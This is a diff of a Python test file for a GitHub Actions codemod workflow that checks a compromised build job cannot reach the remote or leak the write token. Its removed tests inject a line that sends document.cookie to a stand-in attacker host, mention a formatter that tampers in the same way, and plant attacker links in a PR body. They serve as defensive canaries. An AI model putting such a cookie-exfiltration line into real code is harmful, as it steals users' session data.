@@ -2,7 +2,8 @@
 (tests/workflow_run.py), with canaries committed in the repository
 (tests/workflow_canary.py): the write token reaches nothing of the
 repository's, the job that runs the repository's code holds no write
-token, and the publish job pushes only the tool's own work."""
+token, and the publish job pushes only the tool's own work. Whole
+workflows: marked slow (./scripts/test --all runs them)."""
 
 from __future__ import annotations
 
@@ -16,11 +17,12 @@ import pytest
 from . import workflow_canary
 from .canary import executable
 from .gitrepo import BOT, git, with_remote
-from .publish_support import EVIL, append, holds, tampered
+from .publish_support import EVIL
 from .support import ROOT
 from .workflow_run import READ_TOKEN, WRITE_TOKEN, Runner
 
 BRANCH = "codemod/app-state"
+pytestmark = pytest.mark.slow
 
 
 def test_the_example_workflow_with_canaries_shows_the_write_token_to_nothing(tmp_path: Path) -> None:
@@ -53,7 +55,7 @@ def test_the_example_workflow_with_canaries_shows_the_write_token_to_nothing(tmp
     assert [(p["number"], p["state"]) for p in found["pulls"]] == [(1, "open")]
 
 
-def _runner(tmp: Path, remote: Path, **build_inputs: str) -> Runner:
+def _runner(tmp: Path, remote: Path, publish: dict[str, str] | None = None, **build_inputs: str) -> Runner:
     path_dir = tmp / "bin"
     path_dir.mkdir(parents=True)
     shutil.copy(workflow_canary.FAKES / "gh", path_dir / "gh")
@@ -61,80 +63,44 @@ def _runner(tmp: Path, remote: Path, **build_inputs: str) -> Runner:
     github = tmp / "github.json"
     github.write_text(json.dumps({"repo": "decocms/mesh", "pulls": [], "comments": {}, "calls": []}))
     return Runner(tmp, remote, path_dir, extra_env={"FAKE_GH_STATE": str(github)},
-                  with_inputs={"mesh-codemod": {"author": BOT, **build_inputs}, "mesh-codemod/publish": {"author": BOT}})
+                  with_inputs={"mesh-codemod": {"author": BOT, **build_inputs},
+                               "mesh-codemod/publish": {"author": BOT, **(publish or {})}})
 
 
-def test_a_compromised_build_jobs_branch_never_reaches_the_remote(tmp_path: Path) -> None:
-    """The build job runs the repository's code, so its artifact is not
-    trusted: a line added to the tool's file, under the tool's name and
-    trailers, with the bundle and manifest made to match, and a PR body of
-    its own: the publish job pushes its own series, opens the PR with its
-    own body, and says in the job summary that the build's layout was not
-    used."""
-    remote, work = with_remote(tmp_path)
-    runner = _runner(tmp_path, remote, **{"require-checks": "false"})
-    jobs = runner.workflow["jobs"]
-    build = runner.run_job("build", jobs["build"])
-    assert build.ok
-    artifact = runner.artifacts / "mesh-codemod-artifact"
-    honest = json.loads((artifact / "manifest.json").read_text())["tip"]
-    built = tmp_path / "job-build" / "workspace"
-    tampered(built, artifact, append("apps/mesh/src/mcp-apps/app-state.ts",
-                                     f'fetch("https://{EVIL}/" + document.cookie);\n'))
-    (artifact / "body.md").write_text(f"[Approved by security](https://{EVIL})\n")
-    (artifact / "report.json").write_text(json.dumps({"left_alone": [{"path": "x", "why": f"[x](https://{EVIL})"}]}))
-    publish = runner.run_job("publish", jobs["publish"])
-    assert publish.ok, [(s.name, s.exit, s.stderr[-500:]) for s in publish.steps]
-    assert git(remote, "rev-parse", f"refs/heads/{BRANCH}").strip() == honest
-    assert not holds(remote, EVIL.encode())
-    pulls = json.loads((tmp_path / "github.json").read_text())["pulls"]
-    assert [p["number"] for p in pulls] == [1] and EVIL not in pulls[0]["body"] + pulls[0]["title"]
-    summary = (publish.temp / "_github_step_summary").read_text()
-    outputs = [p.read_text() for p in publish.temp.glob("_output_*")]
-    assert "was not used" in summary and EVIL not in summary + "".join(outputs), summary
-
-
-def test_the_build_job_requires_the_checks_unless_told_not_to(tmp_path: Path) -> None:
-    """Nothing installed: by default the build job stops with exit 4 and
-    the publish job does not run; `require-checks: false` reports the
-    checks as not available and the branch is published."""
+def test_failed_checks_are_a_draft_pr_unless_the_job_is_told_to_fail(tmp_path: Path) -> None:
+    """Nothing installed, and the checks required (the default): they fail,
+    the build job records that and stays green, and the publish job pushes
+    the branch and opens its PR as a draft that leads with the failed
+    checks; `fail-on-failed-checks: true` stops the publish job there, red,
+    with nothing pushed."""
     remote, _ = with_remote(tmp_path / "a")
-    strict = _runner(tmp_path / "a", remote).run()
-    assert [j.name for j in strict] == ["build"]
-    assert next(s for s in strict[0].steps if s.name == "Build and verify the branch").exit == 4
-    lenient = _runner(tmp_path / "b", remote, **{"require-checks": "false"}).run()
-    assert [j.name for j in lenient] == ["build", "publish"] and all(j.ok for j in lenient)
-    assert git(remote, "for-each-ref", "--format=%(refname)", f"refs/heads/{BRANCH}").strip() == f"refs/heads/{BRANCH}"
+    build, publish = _runner(tmp_path / "a", remote).run()
+    assert build.ok and publish.ok, [(s.name, s.exit, s.stderr[-500:]) for s in build.steps + publish.steps]
+    [pull] = json.loads((tmp_path / "a" / "github.json").read_text())["pulls"]
+    assert pull["draft"] is True and pull["body"].startswith("> **Draft: mesh's checks failed on this change**")
+    strict = _runner(tmp_path / "b", remote, publish={"fail-on-failed-checks": "true"})
+    git(remote, "update-ref", "-d", f"refs/heads/{BRANCH}")
+    build, publish = strict.run()
+    assert build.ok and not publish.ok
+    check = next(s for s in publish.steps if s.name == "Rebuild the series on the artifact's base")
+    assert check.exit == 4 and "nothing published (--fail-on-failed-checks)" in check.stderr, check.stderr
+    assert git(remote, "for-each-ref", f"refs/heads/{BRANCH}") == ""
+    assert json.loads((tmp_path / "b" / "github.json").read_text())["pulls"] == []
     assert READ_TOKEN != WRITE_TOKEN
 
 
-def test_a_tampering_formatter_in_the_build_job_reaches_nothing_of_the_remote(tmp_path: Path) -> None:
-    """The checkout's Biome (installed by the build job) adds a line that
-    sends the page's cookies away: the build lays the files out itself, and
-    the branch the publish job pushes has no such line."""
-    from .test_formatter import TAMPERER
-
+def test_a_renamed_default_branch_needs_no_edit_of_the_workflow(tmp_path: Path) -> None:
+    """main became trunk: the scheduled run is on trunk, and the publish
+    job targets the branch the run is on, so the first run after the
+    rename opens the PR against trunk and names no origin/main."""
     remote, _ = with_remote(tmp_path)
-    runner = _runner(tmp_path, remote, **{"require-checks": "false"})
-    # it tampers when asked to write (the formatter pass), and passes a check
-    tamperer = executable(tmp_path / "tamperer", TAMPERER.replace(
-        "for f in", 'case " $* " in *" --write "*) ;; *) exit 0 ;; esac\nfor f in', 1))
-    executable(runner.path_dir / "bun", f"""#!/usr/bin/env bash
-if [ "$1" = install ]; then mkdir -p node_modules/.bin && ln -sf "{tamperer}" node_modules/.bin/biome; exit 0; fi
-exec "{workflow_canary.FAKES / 'bun'}" "$@"
-""")
-    jobs = runner.run()
-    assert [j.ok for j in jobs] == [True, True], [(s.name, s.exit, s.stderr[-300:]) for j in jobs for s in j.steps]
-    files = git(remote, "ls-tree", "-r", "--name-only", f"refs/heads/{BRANCH}").split()
-    assert files
-    for path in files:
-        assert "attacker.example" not in git(remote, "show", f"refs/heads/{BRANCH}:{path}"), path
-    report = json.loads((tmp_path / "job-build" / "temp" / "mesh-codemod-artifact" / "report.json").read_text())
-    layouts = {f["path"]: f["layout"] for f in report.get("files", []) if "layout" in f}
-    allowed = ("biome changed more than the layout of the tool's output", "biome agrees with the built-in layout")
-    assert layouts and all(l["reason"] in allowed for l in layouts.values()), layouts
-    # the Biome ran, and was turned down
-    assert any(l["reason"] == "biome changed more than the layout of the tool's output" for l in layouts.values())
+    git(remote, "branch", "-m", "main", "trunk")
+    git(remote, "symbolic-ref", "HEAD", "refs/heads/trunk")
+    build, publish = _runner(tmp_path, remote, **{"require-checks": "false"}).run()
+    assert build.ok and publish.ok, [(s.name, s.exit, s.stderr[-500:]) for s in build.steps + publish.steps]
+    [pull] = json.loads((tmp_path / "github.json").read_text())["pulls"]
+    assert pull["base"]["ref"] == "trunk"
+    assert "origin/main" not in "".join(s.stderr for s in build.steps + publish.steps)
 
 
 # --- one build per job (issue 30) ------------------------------------------------
@@ -186,9 +152,9 @@ def test_the_build_runs_once_per_job(tmp_path: Path) -> None:
     assert builds(log) == {"pr": 1, "publish": 1}, builds(log)
     steps = {s.name: s for s in publish.steps}
     assert steps["Push the branch"].exit == 0 and "not rebuilt" in steps["Push the branch"].stderr
-    workspace = tmp_path / "job-publish" / "workspace"
+    own = publish.temp / "mesh-codemod-report-git"
     report = json.loads((publish.temp / "mesh-codemod-report.json").read_text())
-    kept = git(workspace, "rev-parse", KEPT).strip()
+    kept = git(own, "rev-parse", KEPT).strip()
     assert kept == report["tip"] == git(remote, "rev-parse", f"refs/heads/{BRANCH}").strip()
     assert report["push"]["pushed"] is True
     pulls = json.loads((tmp_path / "github.json").read_text())["pulls"]
@@ -199,15 +165,15 @@ FORGE = """import json, subprocess, sys
 from pathlib import Path
 sys.path.insert(0, {root!r})
 from tests.test_action_run import forge_kept
-forge_kept(Path({workspace!r}), Path({report!r}), {how!r})
+forge_kept(Path({own!r}), Path({report!r}), {how!r})
 """
 
 
 def forge_kept(workspace: Path, report_file: Path, how: str) -> None:
-    """Between the publish job's check and push steps: the kept series
-    removed, or replaced by a commit under the tool's name and trailers
-    with a line of its own, the report's tip and commits made to match
-    (its fingerprint left as it was)."""
+    """Between the publish job's check and push steps: the kept series in
+    publish's repository (``workspace``) removed, or replaced by a commit
+    under the tool's name and trailers with a line of its own, the report's
+    tip and commits made to match (its fingerprint left as it was)."""
     from .publish_support import MODULE, commit, tool_message
 
     if how == "missing":
@@ -240,7 +206,7 @@ def test_the_push_step_refuses_a_kept_series_that_is_missing_or_not_the_reports(
     log = _log_git(runner)
     # the first `gh` call (the decide step, between check and push) moves the ref first
     script = tmp_path / "forge.py"
-    script.write_text(FORGE.format(root=str(ROOT), workspace=str(tmp_path / "job-publish" / "workspace"),
+    script.write_text(FORGE.format(root=str(ROOT), own=str(tmp_path / "job-publish" / "temp" / "mesh-codemod-report-git"),
                                    report=str(tmp_path / "job-publish" / "temp" / "mesh-codemod-report.json"), how=how))
     mark = tmp_path / "forged"
     executable(runner.path_dir / "gh", f"""#!/bin/bash
